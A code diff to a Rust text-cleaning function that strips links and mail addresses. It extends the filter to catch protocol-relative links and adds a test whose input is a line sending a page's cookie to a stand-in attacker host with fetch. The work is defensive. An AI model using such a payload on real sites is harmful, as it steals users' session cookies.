@@ -160,7 +160,7 @@ pub(crate) fn clean_text(text: &str, limit: usize) -> String {
     let mut kept: Vec<&str> = Vec::new();
     for word in plain.split_whitespace() {
         let lower = word.to_lowercase();
-        if lower.contains("://") || lower.starts_with("www.") || is_address(&lower) {
+        if lower.starts_with("www.") || is_address(&lower) {
             continue;
         }
         let bare = word.trim_end_matches([':', '：']);
@@ -172,8 +172,11 @@ pub(crate) fn clean_text(text: &str, limit: usize) -> String {
     clip(&kept.join(" "), limit).trim().to_string()
 }
 
-/// Whether a word is a link without a scheme (`shop.example/win`) or an address of mail.
+/// Whether a word is a link, with a scheme or without (`shop.example/win`), or an address of mail.
 pub(crate) fn is_address(word: &str) -> bool {
+    if word.contains("//") {
+        return true;
+    }
     let dotted = |part: &str| {
         let mut labels = part.split('.').map(|label| label.chars().any(char::is_alphanumeric));
         part.contains('.') && labels.all(|filled| filled)
@@ -273,6 +276,7 @@ mod tests {
         check("see https://evil.example/x and www.evil.example now", "see and now");
         check("say \"hi\"", "say 'hi'");
         check("more at evil.example/win or seller@evil.example.", "more at or");
+        check("fetch('//evil.example/'+cookie) it", "it");
         check("and/or 7.5/10 AC/DC @home", "and/or 7.5/10 AC/DC @home");
         check("a\u{fe0f}b\u{e0041}c\u{3164}d", "abcd");
         check("a\u{202e}b\u{200b}c\u{0}d", "abc d");
